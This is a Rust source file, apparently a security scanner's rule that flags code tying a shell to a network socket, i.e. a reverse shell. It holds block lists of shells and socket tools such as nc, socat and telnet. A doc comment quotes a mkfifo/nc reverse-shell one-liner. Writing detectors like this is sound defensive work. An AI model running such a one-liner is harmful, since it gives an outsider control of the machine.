//! A shell is tied to a socket.

use super::{Rule, away, look, weighed};
use crate::{
    facts::{
        Ran, Use,
        capability::{Capability, Sink, Source},
    },
    finding::{Confidence, Finding, Reach, Severity},
    graph::{Graph, Module},
};

pub(super) static RULE: Rule = Rule {
    id: "reverse-shell",
    title: "hands a shell to another machine",
    docs: include_str!("reverse_shell.md"),
    help: "do not use it; a machine on which it ran is somebody else's: take it off the network",
    severity: Severity::Critical,
    check,
};

/// Shells that wait for commands when they are given none.
const SHELLS: [&str; 10] = [
    "ash",
    "bash",
    "cmd",
    "csh",
    "dash",
    "ksh",
    "powershell",
    "pwsh",
    "sh",
    "zsh",
];
/// Programs that are a socket to their input and output.
const SOCKETS: [&str; 5] = ["nc", "ncat", "netcat", "socat", "telnet"];
/// How code of other languages makes a socket, and what it ties to it.
const TIES: [&str; 6] = ["pty.spawn", "dup2", "/bin/sh", "/bin/bash", "cmd.exe", "exec("];

fn check(graph: &Graph<'_>, out: &mut Vec<Finding>) {
    for (index, module) in graph.modules.iter().enumerate() {
        let before = out.len();
        for flow in graph.flows_into(index) {
            if flow.source_api == look::SHELL_SOCKET && out.len() == before {
                let finding = Finding::of(&RULE, graph, flow, severity(flow.reach), Confidence::High)
                    .says(format!("ties a shell to a connection{}", to(flow.what)))
                    .because(
                        flow.file,
                        flow.place.range,
                        flow.place.layer,
                        format!("`{}` takes its commands from the connection", flow.sink_api),
                    );
                out.push(finding);
            }
        }
        if out.len() == before {
            out.extend(in_commands(module));
        }
        if out.len() == before {
            out.extend(in_code(graph, index, module));
        }
    }
}

/// A shell for whoever answers is no feature, whenever it runs.
fn severity(reach: Reach) -> Severity {
    match reach {
        Reach::Install | Reach::Import => Severity::Critical,
        Reach::Call | Reach::Unreached => Severity::High,
    }
}

fn to(hosts: &[String]) -> String {
    match super::quoted(hosts) {
        hosts if hosts.is_empty() => String::new(),
        hosts => format!(" to {hosts}"),
    }
}

/// `mkfifo f; cat f | sh -i | nc host port > f`, and one-liners of other languages.
fn in_commands(module: &Module<'_>) -> Option<Finding> {
    let commands = &module.facts.commands;
    let found = commands.iter().find_map(|ran| {
        let program = ran.program();
        if SOCKETS.contains(&program.as_str()) {
            let shell = commands
                .iter()
                .find(|other| waits(other) && other.place.range == ran.place.range);
            return shell.map(|shell| (ran, format!("`{program}` is tied to `{}`", shell.words.join(" "))));
        }
        let code = ran
            .arguments()
            .iter()
            .find(|word| word.contains("socket") || word.contains("TCPClient"))?;
        let tied = TIES.iter().find(|tie| code.contains(**tie))?;
        Some((
            ran,
            format!("`{program}` runs code that opens a socket and says `{tied}`"),
        ))
    });
    let (ran, note) = found?;
    let severity = weighed(severity(module.reach_of(ran.place)), module.reach);
    Some(
        Finding::new(&RULE, module, ran.place, severity, Confidence::High)
            .says("ties a shell to a connection")
            .because(module.path, ran.place.range, ran.place.layer, note),
    )
}

/// A shell that is given no commands: it waits for them.
fn waits(ran: &Ran) -> bool {
    SHELLS.contains(&ran.program().as_str())
        && ran.arguments().iter().all(|word| {
            matches!(
                word.as_str(),
                "-i" | "-l" | "-il" | "-li" | "--login" | "-NoLogo" | "-NoExit" | "/q" | "/Q"
            )
        })
}

/// A shell that waits, and a socket: what comes in goes to the shell, and back.
fn in_code(graph: &Graph<'_>, index: usize, module: &Module<'_>) -> Option<Finding> {
    let facts = module.facts;
    let shell = facts.commands.iter().find(|ran| waits(ran))?;
    let opened = facts.uses.iter().find(|used| opens(used))?;
    let flows = graph.flows_into(index);
    let fed = flows
        .iter()
        .find(|flow| flow.source == Source::Network && flow.sink == Sink::Exec);
    let answered = flows
        .iter()
        .find(|flow| flow.source == Source::Exec && flow.sink == Sink::Network);
    let reach = module.reach_of(shell.place);
    // Whose shell it is, the code itself says.
    let fixed = opened.arguments.hosts.iter().any(|host| away::foreign(host).is_some());
    let (severity, confidence) = match (fed.or(answered).is_some(), reach) {
        (true, Reach::Install | Reach::Import) => (Severity::Critical, Confidence::High),
        (true, Reach::Call) if fixed => (Severity::High, Confidence::High),
        (true, _) => (Severity::High, Confidence::Medium),
        (false, Reach::Install | Reach::Import) => (Severity::High, Confidence::High),
        (false, _) => (Severity::Medium, Confidence::Medium),
    };
    let mut finding = Finding::new(&RULE, module, shell.place, weighed(severity, module.reach), confidence)
        .says(format!(
            "starts a shell and ties it to a socket{}",
            to(&opened.arguments.hosts)
        ))
        .because(
            module.path,
            opened.place.range,
            opened.place.layer,
            format!("`{}` opens a connection", opened.api),
        )
        .because(
            module.path,
            shell.place.range,
            shell.place.layer,
            format!("`{}` waits for commands", look::brief(&shell.words.join(" "))),
        );
    if let Some(flow) = fed {
        let note = format!("`{}` hands it what comes in", flow.sink_api);
        finding = finding.because(flow.file, flow.place.range, flow.place.layer, note);
    }
    if let Some(flow) = answered {
        let note = format!("`{}` sends what it prints", flow.sink_api);
        finding = finding.because(flow.file, flow.place.range, flow.place.layer, note);
    }
    Some(finding)
}

/// Whether a use opens a connection of bytes.
fn opens(used: &Use) -> bool {
    used.capability == Capability::Network
        && [
            "net.connect",
            "net.createConnection",
            "net.Socket",
            "tls.connect",
            "WebSocket",
        ]
        .iter()
        .any(|api| used.api.starts_with(api))
}
